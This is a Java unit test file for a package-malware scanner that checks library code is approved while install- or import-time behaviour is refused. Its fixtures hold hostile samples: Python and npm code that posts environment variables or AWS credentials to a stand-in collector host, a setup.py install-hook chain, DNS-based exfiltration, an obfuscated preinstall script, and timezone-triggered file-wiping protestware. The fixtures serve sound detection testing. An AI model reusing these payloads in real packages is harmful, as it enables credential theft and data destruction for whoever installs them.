package dev.airlock.scanner;

import static dev.airlock.archive.testing.TestArchives.file;
import static org.assertj.core.api.Assertions.assertThat;

import dev.airlock.archive.testing.TestArchives;
import dev.airlock.archive.testing.TestArchives.Entry;
import dev.airlock.domain.Finding;
import dev.airlock.domain.Severity;
import dev.airlock.domain.SeverityPolicy;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Reachability weighting through the scanner's API and the default policy: the kinds of lines that
 * made popular packages (as Debian ships them, repacked like an sdist) be refused are approved where
 * they sit in library code, and the same capability is refused where it runs at install or import
 * time. The fixtures are written here after the lines that fired; none is copied from a package.
 */
class ReachabilityTest {
  @TempDir
  Path temp;

  private final BuiltinScanner scanner = new BuiltinScanner();

  @Nested
  @DisplayName("popular libraries are approved")
  class Libraries {

    @Test
    void shouldApprovePipWhenItsKeyringHelperRunsAProcessWithACopyOfTheEnvironmentInsideAMethod() throws Exception {
      // Given: pip/_internal/network/auth.py (HOST-EXFIL fired: os.environ.copy() + subprocess, requests)
      List<Finding> findings = scanLibrary("pip", file("pip-23.0.1/pip/_internal/network/auth.py", """
          import os
          import subprocess
          from pip._vendor import requests

          class KeyRingCliProvider:
              def _get_password(self, service_name, username):
                  env = os.environ.copy()
                  env["PYTHONIOENCODING"] = "utf-8"
                  res = subprocess.run([self.keyring, "get", service_name, username], env=env)
                  return res.stdout

              def _post(self, url, data):
                  return requests.post(url, data=data)
          """));

      // Then
      assertApprovedWithLowOnly(findings, "AIRLOCK-HOST-EXFIL");
    }

    @Test
    void shouldApproveSetuptoolsWhenItsRegisterCommandReadsPypircAndPostsInsideMethods() throws Exception {
      // Given: setuptools/_distutils/command/register.py (CREDENTIAL-THEFT fired: .pypirc + urlopen)
      List<Finding> findings = scanLibrary("setuptools", file(
          "setuptools-66.1.1/setuptools/_distutils/command/register.py", """
          import os
          import urllib.request

          class register:
              def _get_rc_file(self):
                  return os.path.join(os.path.expanduser('~'), '.pypirc')

              def post_to_server(self, data):
                  request = urllib.request.Request(self.repository, data=data)
                  return urllib.request.urlopen(request)
          """));

      // Then
      assertApprovedWithLowOnly(findings, "AIRLOCK-CREDENTIAL-THEFT");
    }

    @Test
    void shouldApproveNumpyWhenItImportsByComputedNameAndShipsBuildHelperSetupFiles() throws Exception {
      // Given: numpy/core/function_base.py (OBFUSCATION fired: getattr(__import__(...))) and
      // numpy/core/setup.py (SETUP-ACTION fired: a compiler check), which pip never runs
      List<Finding> findings = scanLibrary("numpy",
          file("numpy-1.24.2/numpy/core/function_base.py", """
              def add_newdoc(place, obj, doc):
                  new = getattr(__import__(place, globals(), {}, [obj]), obj)
                  return new
              """),
          file("numpy-1.24.2/numpy/core/setup.py", """
              import os, subprocess
              def check_compiler():
                  return subprocess.check_output(["cc", "--version"], shell=True)
              os.system("cc -v")
              """));

      // Then
      assertThat(approved(findings)).isTrue();
    }

    @Test
    void shouldApproveCryptographyWhenItsParsersHoldPemHeaders() throws Exception {
      // Given: cryptography/hazmat/primitives/serialization/ssh.py (PRIVATE-KEY fired on the constant)
      List<Finding> findings = scanLibrary("cryptography", file(
          "cryptography-38.0.4/cryptography/hazmat/primitives/serialization/ssh.py", """
          _SK_MAGIC = b"openssh-key-v1\\x00"
          _SK_START = b"-----BEGIN OPENSSH PRIVATE KEY-----"
          _SK_END = b"-----END OPENSSH PRIVATE KEY-----"
          """));

      // Then
      assertThat(findings).isEmpty();
    }

    @Test
    void shouldApprovePygmentsWhenItsLexersListShellAndPowerShellCommandNames() throws Exception {
      // Given: pygments/lexers/shell.py (DOWNLOAD-EXEC fired on a keyword list: iex ... iwr ... curl ... wget)
      List<Finding> findings = scanLibrary("pygments", file("pygments-2.14.0/pygments/lexers/shell.py", """
          class PowerShellLexer:
              aliases_ = (
                  'ac asnp cat cd curl gc gci gcm iex ihy ii ipal ipcsv irm ise iwmi iwr kill lp '
                  'ls man md measure mi mount move rm rmdir sleep sort start tee type wget where').split()
              verbs = 'invoke-expression invoke-webrequest invoke-restmethod'.split()
          """));

      // Then
      assertThat(findings).isEmpty();
    }

    @Test
    void shouldApproveRequestsWhenItSendsWhatItsCallerGivesFromLibraryFunctions() throws Exception {
      // Given: a networking library reads proxies from the environment and sends requests
      List<Finding> findings = scanLibrary("requests", file("requests-2.28.1/requests/utils.py", """
          import os
          import socket

          def get_environ_proxies(url):
              proxies = dict(os.environ)
              host = socket.gethostname()
              return proxies, host

          def send(sock, data):
              sock.sendall(data)
          """));

      // Then
      assertApprovedWithLowOnly(findings, "AIRLOCK-HOST-EXFIL");
    }

    @Test
    void shouldApprovePandasWhenItReadsRemoteFilesAndRunsClipboardToolsInsideFunctions() throws Exception {
      // Given: pandas' io helpers download URLs and its clipboard support runs xclip
      List<Finding> findings = scanLibrary("pandas", file("pandas-1.5.3/pandas/io/common.py", """
          import subprocess
          import urllib.request

          def _download(url, path):
              urllib.request.urlretrieve(url, path)

          def _copy_xclip(text):
              subprocess.Popen(["xclip", "-selection", "c"], stdin=subprocess.PIPE).communicate(text)
          """));

      // Then
      assertApprovedWithLowOnly(findings, "AIRLOCK-DOWNLOAD-EXEC");
    }

    @Test
    void shouldApproveScipyWhenItsTestsAndBuildHelpersRunProcesses() throws Exception {
      // Given: scipy ships tests and per-subpackage setup.py files
      List<Finding> findings = scanLibrary("scipy",
          file("scipy-1.10.1/scipy/sparse/csgraph/setup.py", """
              import subprocess
              subprocess.call(["cython", "_traversal.pyx"])
              """),
          file("scipy-1.10.1/scipy/_lib/tests/test_import_cycles.py", """
              import subprocess, sys, os, socket
              def test_modules_importable():
                  user = os.getlogin()
                  s = socket.socket()
                  s.sendall(user.encode())
                  subprocess.check_call([sys.executable, "-c", "import scipy"])
              """));

      // Then
      assertThat(approved(findings)).isTrue();
    }

    @Test
    void shouldApproveBoto3WhenBotocoreHoldsDocumentationKeysAndFetchesInstanceMetadataInAMethod() throws Exception {
      // Given: botocore's example keys in its service data and its metadata fetcher (utils.py)
      List<Finding> findings = scanLibrary("boto3",
          file("boto3-1.26.27/botocore/data/iam/2010-05-08/examples-1.json",
              "{\"AccessKeyId\": \"AKIAI44QH8DHBEXAMPLE\", \"Other\": \"AKIA111111111EXAMPLE\"}\n"),
          file("boto3-1.26.27/botocore/utils.py", """
              import os
              import socket

              class IMDSFetcher:
                  def __init__(self, env=None):
                      if env is None:
                          env = os.environ.copy()
                      self._host = socket.gethostname()

                  def _fetch(self, sock, data):
                      sock.send(data)
              """));

      // Then
      assertApprovedWithLowOnly(findings, "AIRLOCK-HOST-EXFIL");
    }

    @Test
    void shouldApproveACoverageToolWhenItsPthFileRunsCodeThatOnlyMentionsSubprocessesInText() throws Exception {
      // Given: pytest-cov.pth (PTH-EXEC fired on the word "subprocess" inside a message)
      List<Finding> findings = scanLibrary("pytest-cov", file("pytest-cov-4.0.0/pytest-cov.pth",
          "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from pytest_cov.embed import init\\n"
              + "  init()\\n except Exception as exc:\\n  sys.stderr.write(\"Failed to setup subprocess coverage.\")\\n')\n"));

      // Then: reported so a reviewer knows it runs at every start, but not blocking
      assertThat(approved(findings)).isTrue();
      assertThat(findings).anySatisfy(f -> {
        assertThat(f.ruleId()).isEqualTo("AIRLOCK-PTH-EXEC");
        assertThat(f.severity()).isEqualTo(Severity.LOW);
      });
    }
  }

  @Nested
  @DisplayName("the same capability where it runs on install or import is refused")
  class InstallAndImport {

    @Test
    void shouldRefuseWhenAModuleSendsTheEnvironmentAtItsTopLevel() throws Exception {
      // Given: the pip-like lines, but at module level: they run on import
      List<Finding> findings = scanLibrary("helper", file("helper-1.0/helper/__init__.py", """
          import os, requests
          requests.post("https://collector.example.invalid/", data=dict(os.environ))
          """));

      // Then
      assertThat(findings).anySatisfy(f -> {
        assertThat(f.ruleId()).isEqualTo("AIRLOCK-HOST-EXFIL");
        assertThat(f.severity()).isEqualTo(Severity.HIGH);
        assertThat(f.description()).contains("installed or loaded");
      });
      assertThat(approved(findings)).isFalse();
    }

    @Test
    void shouldRefuseWhenAFunctionThatSendsTheEnvironmentIsCalledFromTheModuleTopLevel() throws Exception {
      // Given
      List<Finding> findings = scanLibrary("helper", file("helper-1.0/helper/core.py", """
          import os, requests

          def _report():
              requests.post("https://collector.example.invalid/", data=dict(os.environ))

          _report()
          """));

      // Then
      assertThat(approved(findings)).isFalse();
    }

    @Test
    void shouldRefuseWhenSetupPyCallsAPackageFunctionThatSendsCredentials() throws Exception {
      // Given: the install hook imports the package and calls it; the theft sits in a function of another file
      List<Finding> findings = scan(List.of(
          file("hook-1.0/setup.py", """
              from setuptools import setup
              from setuptools.command.install import install
              class Post(install):
                  def run(self):
                      install.run(self)
                      from hook import trigger
                      trigger()
              setup(name="hook", cmdclass={"install": Post})
              """),
          file("hook-1.0/hook/__init__.py", """
              def trigger():
                  from hook.steal import collect
                  collect()
              """),
          file("hook-1.0/hook/steal.py", """
              import os, requests
              def collect():
                  keys = open(os.path.expanduser("~/.aws/credentials")).read()
                  requests.post("https://collector.example.invalid/", data=keys)
              """)));

      // Then: followed from setup.py through trigger() to collect(), so it counts in full
      assertThat(approved(findings)).isFalse();
      assertThat(findings).anySatisfy(f -> {
        assertThat(f.ruleId()).isEqualTo("AIRLOCK-CREDENTIAL-THEFT");
        assertThat(f.severity()).isEqualTo(Severity.HIGH);
        assertThat(f.description()).contains("installed or loaded");
      });
    }

    @Test
    void shouldRefuseWhenAFewFilePackageHidesTheSameLinesInFunctions() throws Exception {
      // Given: two files, no library surface: its functions are what it ships
      List<Finding> findings = scan(List.of(file("tiny-1.0/tiny/__init__.py", """
          import os, requests
          def collect():
              requests.post("https://collector.example.invalid/", data=dict(os.environ))
          """)));

      // Then
      assertThat(findings).anySatisfy(f -> {
        assertThat(f.ruleId()).isEqualTo("AIRLOCK-HOST-EXFIL");
        assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
        assertThat(f.description()).contains("few source files (1)");
      });
    }

    @Test
    void shouldStillReportATestFolderPayloadInFullWhenAnInstallScriptRunsIt() throws Exception {
      // Given: an npm postinstall runs a file from test/, which is no hiding place
      List<Finding> findings = scan(List.of(
          file("package/package.json", """
              {"name": "left-pad-plus", "version": "1.0.0", "scripts": {"postinstall": "node test/setup.js"}}
              """),
          file("package/test/setup.js", """
              const os = require('os');
              const https = require('https');
              const data = JSON.stringify({ host: os.hostname(), user: os.userInfo().username });
              https.request({ hostname: 'collector.example.invalid', method: 'POST' }).end(data);
              """)));

      // Then
      assertThat(findings).anySatisfy(f -> {
        assertThat(f.ruleId()).isEqualTo("AIRLOCK-HOST-EXFIL");
        assertThat(f.severity()).isEqualTo(Severity.HIGH);
        assertThat(f.path()).contains("package/test/setup.js");
      });
    }
  }

  @Nested
  @DisplayName("npm")
  class Npm {

    @Test
    void shouldRefuseAnObfuscatedFileThatAnInstallScriptRuns() throws Exception {
      // Given
      String mangled = "var _0x1a2b3c=['x'];function _0x4d5e6f(_0x7a8b9c){return _0x1a2b3c[_0x7a8b9c];}\n";
      List<Finding> findings = scan(List.of(
          file("package/package.json", "{\"name\": \"x\", \"version\": \"1.0.0\", \"scripts\": {\"preinstall\": \"node"
              + " lib/i.js\"}}\n"),
          file("package/lib/i.js", mangled.repeat(6))));

      // Then
      assertThat(findings).anySatisfy(f -> {
        assertThat(f.ruleId()).isEqualTo("AIRLOCK-OBFUSCATION");
        assertThat(f.severity()).isEqualTo(Severity.HIGH);
      });
    }

    @Test
    void shouldRefuseWhenHostDetailsLeaveThroughADnsLookup() throws Exception {
      // Given
      List<Finding> findings = scan(List.of(
          file("package/package.json", "{\"name\": \"x\", \"version\": \"1.0.0\"}\n"),
          file("package/index.js", """
              const dns = require('dns'), os = require('os');
              const label = Buffer.from(os.hostname()).toString('hex');
              dns.lookup(`${label}.exfil.example.invalid`, () => {});
              """)));

      // Then
      assertThat(findings).anySatisfy(f -> {
        assertThat(f.ruleId()).isEqualTo("AIRLOCK-HOST-EXFIL");
        assertThat(f.severity()).isEqualTo(Severity.HIGH);
      });
    }

    @Test
    void shouldRefuseCodeThatWipesFilesWhenTheMachineIsInAChosenCountry() throws Exception {
      // Given: protestware
      List<Finding> findings = scan(List.of(
          file("package/package.json", "{\"name\": \"x\", \"version\": \"1.0.0\"}\n"),
          file("package/index.js", """
              const fs = require('fs');
              const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
              if (tz === 'Europe/Moscow') {
                for (const f of fs.readdirSync('.')) { fs.writeFileSync(f, '\\u2764'); }
              }
              """)));

      // Then
      assertThat(findings).anySatisfy(f -> {
        assertThat(f.ruleId()).isEqualTo("AIRLOCK-DESTRUCTIVE");
        assertThat(f.severity()).isEqualTo(Severity.HIGH);
      });
    }

    @Test
    void shouldApproveAnInstallerThatDownloadsABinaryAndHandsItsEnvironmentToTheProgram() throws Exception {
      // Given: esbuild/electron-style install.js: reads settings, fetches a binary, runs it with the environment
      List<Finding> findings = scan(List.of(
          file("package/package.json", """
              {"name": "fastbuild", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}
              """),
          file("package/install.js", """
              const https = require('https');
              const child_process = require('child_process');
              const path = process.env.FASTBUILD_BINARY_PATH || require('path').join(__dirname, 'bin');
              function fetch(url) { return new Promise((ok) => https.get(url, ok)); }
              async function main() {
                await fetch('https://registry.npmjs.org/@fastbuild/linux-x64/-/linux-x64-1.0.0.tgz');
                const env = { ...process.env, npm_config_global: undefined };
                child_process.execFileSync(path, ['--version'], { env });
              }
              main();
              """)));

      // Then: only the LOW install-script note
      assertThat(approved(findings)).isTrue();
    }
  }

  // ---------------------------------------------------------------------------------------------

  /** A package shaped like a real library: the given files among a dozen ordinary modules. */
  private List<Finding> scanLibrary(String name, Entry... entries) throws IOException {
    String root = entries[0].name().substring(0, entries[0].name().indexOf('/') + 1);
    List<Entry> all = new ArrayList<>(List.of(entries));
    IntStream.range(0, 12).forEach(i -> all.add(file(root + name.replace('-', '_') + "/_mod" + i + ".py",
        "def f" + i + "(x):\n    return x + " + i + "\n")));
    return scan(all);
  }

  private List<Finding> scan(List<Entry> entries) throws IOException {
    Path archive = TestArchives.tarGz(Files.createTempFile(temp, "pkg-", ".tar.gz"), entries.toArray(Entry[]::new));
    return scanner.scan("pkg", archive);
  }

  private static boolean approved(List<Finding> findings) {
    return SeverityPolicy.defaultPolicy().evaluate("pkg", findings, LocalDate.of(2026, 1, 1)).isApproved();
  }

  /** Approved by the default policy, the rule still reported LOW with its reason (not silently dropped). */
  private static void assertApprovedWithLowOnly(List<Finding> findings, String rule) {
    assertThat(approved(findings)).isTrue();
    assertThat(findings).anySatisfy(f -> {
      assertThat(f.ruleId()).isEqualTo(rule);
      assertThat(f.severity()).isEqualTo(Severity.LOW);
      assertThat(f.description()).contains("Weight: LOW");
    });
  }
}
